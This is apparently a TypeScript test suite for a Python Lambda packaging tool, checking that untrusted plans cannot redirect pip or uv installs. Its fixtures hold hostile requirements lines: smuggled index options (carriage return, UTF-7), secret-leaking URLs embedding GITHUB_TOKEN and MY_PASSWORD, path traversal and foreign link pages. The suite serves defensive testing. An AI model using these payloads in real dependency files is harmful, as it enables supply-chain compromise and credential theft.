import * as fs from 'node:fs';
import * as path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { cli } from '../cli/support/command';
import { foreignAssembly, foreignPlanFile } from '../support/foreign-plan';
import { openIndex } from '../support/open-index';
import { environmentWith } from '../support/python-tools';
import { temporaryFolder } from '../support/temporary';
import { wheelFolder } from '../support/wheel';

const test = suite('what a plan or an assembly of a stranger does without leave');

const environment = (tool: 'uv' | 'pip', more: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({
  ...environmentWith({ [tool]: true }),
  CDK_LAMBDA_PYTHON_CACHE: temporaryFolder(),
  ...more,
});

/** Lines that once installed a wheel of another index without leave, and what is said of them now. */
const FETCHES: Readonly<Record<string, (host: string) => readonly [text: string, said: RegExp]>> = {
  'a line after a carriage return': (host) => [
    `# x\revilw @ ${host}/files/evilw-1-py3-none-any.whl\n`,
    /^ {2}\(fetches http:\S+\/files\/evilw-1-py3-none-any\.whl\)$/m,
  ],
  'a short option with its value': (host) => [
    `-i${host}/simple\nevilw\n`,
    /^ {2}\(takes packages from http:\S+\/simple\)$/m,
  ],
  'the same of --find-links': (host) => [
    `-f${host}/simple/evilw\nevilw\n`,
    /^ {2}\(takes packages from http:\S+\/simple\/evilw\)$/m,
  ],
  'an abbreviation': (host) => [
    `--extra="${host}/simple"\nevilw\n`,
    /^ {2}\(takes packages from http:\S+\/simple\)$/m,
  ],
  'a file that is not named .txt': () => ['-r more.req\n', /^ {2}\(takes packages from http:\S+\/simple\)$/m],
  'an option after another': (host) => [
    `--pre --extra-index-url ${host}/simple\nevilw\n`,
    /^ {2}\(takes packages from http:\S+\/simple\)$/m,
  ],
  'a host without a certificate': () => [
    '--trusted-host h.example\nsix\n',
    /^ {2}\(trusts h\.example without a certificate\)$/m,
  ],
};

/** Lines that pip or uv reads, and this library does not: nothing reads them, also with leave. */
const MALFORMED: typeof FETCHES = {
  'a line that pip and uv read, and this library does not': (host) => [
    `evilw@(${host}/files/evilw-1-py3-none-any.whl)\n`,
    /requirements\.txt:1 reads a file of this machine that has no digest in the plan: evilw@\(http/,
  ],
  'a line that only another encoding shows': (host) => [
    `# -*- coding: utf-7 -*-\n# x +AAo---index-url ${host}/simple\nevilw\n`,
    /requirements\.txt:1 names the encoding utf-7\. pip would read the file in it, and uv reads UTF-8\./,
  ],
  'a URL with one slash': () => [
    'evilw @ http:/127.0.0.1/files/evilw-1-py3-none-any.whl\n',
    /requirements\.txt:1 reads a file of this machine that has no digest in the plan: evilw @ http:\/127/,
  ],
  'an option that no installer reads': () => [
    '--proxy http://h.example\nsix\n',
    /requirements\.txt:1 has --proxy/,
  ],
};

const CASES = [
  ...Object.entries(FETCHES).map(([name, attack]) => ({ name, attack, more: [] })),
  ...Object.entries(MALFORMED).map(([name, attack]) => ({ name, attack, more: ['--allow-commands'] })),
];

for (const tool of ['uv', 'pip'] as const)
  for (const { name, attack, more } of CASES)
    test(`run PLAN, ${tool}: ${name}`, async () => {
      const index = await openIndex(wheelFolder('evilw', { 'evilw.py': '' }));
      try {
        const host = index.url.replace('/simple', '');
        const [text, said] = attack(host);
        const plan = foreignPlanFile({
          'requirements.txt': text,
          'more.req': `--extra-index-url ${host}/simple\nevilw\n`,
        });
        const { code, stderr } = await cli(['run', plan, '--out', 'out', ...more], {
          cwd: path.dirname(plan),
          environment: environment(tool),
        });
        assert.equal([code, index.asked], [1, []], stderr);
        assert.match(stderr, said);
        assert.not(fs.existsSync(path.join(path.dirname(plan), 'out')));
      } finally {
        index.close();
      }
    });

const SECRETS = { GITHUB_TOKEN: 'ghp0123456789', MY_PASSWORD: 'hunter2-hunter2' };

const SENDING: Readonly<Record<string, (host: string) => string>> = {
  'Stack/index': (host) => `--extra-index-url http://\${GITHUB_TOKEN}:\${MY_PASSWORD}@${host}/simple\nsix\n`,
  'Stack/wheel': (host) => `evilw @ http://\${GITHUB_TOKEN}@${host}/files/evilw-1-py3-none-any.whl\n`,
  'Stack/path': (host) => `--find-links http://${host}/\${GITHUB_TOKEN}/\nsix\n`,
};

test('run ASSEMBLY sends no variable to a host without leave', async () => {
  const index = await openIndex(wheelFolder('evilw', { 'evilw.py': '' }));
  try {
    const { host } = new URL(index.url);
    const assembly = foreignAssembly(
      Object.fromEntries(
        Object.entries(SENDING).map(([label, text]) => [label, { 'requirements.txt': text(host) }]),
      ),
    );
    const { code, stderr } = await cli(['run', assembly], {
      cwd: path.dirname(assembly),
      environment: environment('pip', SECRETS),
    });
    assert.equal([code, index.asked], [1, []], stderr);
    for (const line of [
      'Stack/index: (reads the variable GITHUB_TOKEN)',
      'Stack/index: (reads the variable MY_PASSWORD)',
      `Stack/index: (takes packages from http://${host}/simple)`,
      'Stack/wheel: (reads the variable GITHUB_TOKEN)',
      `Stack/wheel: (fetches http://${host}/files/evilw-1-py3-none-any.whl)`,
      'Stack/path: (reads the variable GITHUB_TOKEN)',
    ])
      assert.ok(stderr.includes(`\n  ${line}\n`), `${line}\n${stderr}`);
  } finally {
    index.close();
  }
});

/** Lines that name files of this machine, of which the plan has no digest. */
const unplanned = (): Readonly<Record<string, string>> => {
  const folder = wheelFolder('evilw', { 'evilw.py': '' });
  const wheel = path.join(folder, 'evilw-1-py3-none-any.whl');
  const other = path.join(folder, 'other.txt');
  fs.writeFileSync(other, 'evilw @ http://127.0.0.1:9/evilw-1-py3-none-any.whl\n');
  return {
    'a path': `${wheel}\n`,
    'a file URL': `evilw @ file://${wheel}\n`,
    'a relative path': `../../../../../../../../..${wheel}\n`,
    'a requirements file': `-r ${other}\n`,
    'a constraints file': `-c ${other}\nsix\n`,
    'an abbreviated option': `--requirem ${other}\n`,
    'an option after another': `--pre -r ${other}\n`,
    'a variable': '-r ${HOME}/other.txt\n',
    'links of a folder': `--find-links ${folder}\nevilw\n`,
    'links of a folder, abbreviated': `--find=file://${folder}\nevilw\n`,
    'links of a folder, after another': `--pre -f file://${folder}\nevilw\n`,
    'an index': `--extra-index-url file://${folder}\nevilw\n`,
    'a constraints file between quotes': `-c "${other}"\nsix\n`,
    'a backslash before a path': `-c \\${other}\nsix\n`,
  };
};

test('no file of this machine is read that the plan has no digest of, with and without leave', async () => {
  const all = unplanned();
  for (const tool of ['uv', 'pip'] as const) {
    for (const [name, text] of Object.entries(all)) {
      const plan = foreignPlanFile({ 'requirements.txt': text });
      const { code, stderr } = await cli(['run', plan, '--out', 'out', '--allow-commands'], {
        cwd: path.dirname(plan),
        environment: environment(tool),
      });
      assert.is(code, 1, `${name}: ${stderr}`);
      assert.match(stderr, /requirements\.txt:1 /, `${tool}, ${name}`);
      assert.match(stderr, 'the plan or one of its files was changed by hand', `${tool}, ${name}`);
    }
  }
});

test('the same of an assembly, where `package` runs it as well', async () => {
  const all = unplanned();
  const assembly = foreignAssembly(
    Object.fromEntries(
      Object.entries(all).map(([name, text]) => [`Stack/${name}`, { 'requirements.txt': text }]),
    ),
  );
  const options = { cwd: path.dirname(assembly), environment: environment('pip') };
  const { code, stdout, stderr } = await cli(['run', assembly, '--allow-commands'], options);
  assert.equal([code, stdout], [1, '']);
  for (const name of Object.keys(all))
    assert.ok(stderr.includes(`error: Stack/${name}: `), `${name}\n${stderr}`);
  const count = Object.keys(all).length;
  assert.is(stderr.match(/the plan or one of its files was changed by hand/g)?.length, count, stderr);
  const folder = path.join(assembly, 'cdk-lambda-python');
  const [file = ''] = fs.readdirSync(folder).filter((name) => name.endsWith('.json'));
  const packaged = await cli(['package', path.join(folder, file)], options);
  assert.equal([packaged.code, packaged.stdout], [1, '']);
  assert.match(packaged.stderr, 'the plan or one of its files was changed by hand');
});

test('a page of the plan links to no other host without leave', async () => {
  const index = await openIndex(wheelFolder('evilw', { 'evilw.py': '' }));
  try {
    const host = index.url.replace('/simple', '');
    const plan = foreignPlanFile({
      'requirements.txt': '--find-links links/page.html\nevilw\n',
      'links/page.html': `<a href="${host}/files/evilw-1-py3-none-any.whl">evilw-1-py3-none-any.whl</a>\n`,
    });
    const { code, stderr } = await cli(['run', plan, '--out', 'out'], {
      cwd: path.dirname(plan),
      environment: environment('pip'),
    });
    assert.equal([code, index.asked], [1, []], stderr);
    assert.match(stderr, /^ {2}\(follows the links of links\/page\.html\)$/m);
  } finally {
    index.close();
  }
});

test('an ordinary assembly runs without leave', async () => {
  const assembly = foreignAssembly({
    'Stack/plain': {
      'requirements.txt':
        '# see https://example.com\nsix==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\n-c more/c.txt\n',
      'more/c.txt': 'idna<4\n',
    },
  });
  const { code, stderr } = await cli(['run', assembly], {
    cwd: path.dirname(assembly),
    environment: environment('uv'),
  });
  assert.is(code, 0, stderr);
});

test.run();
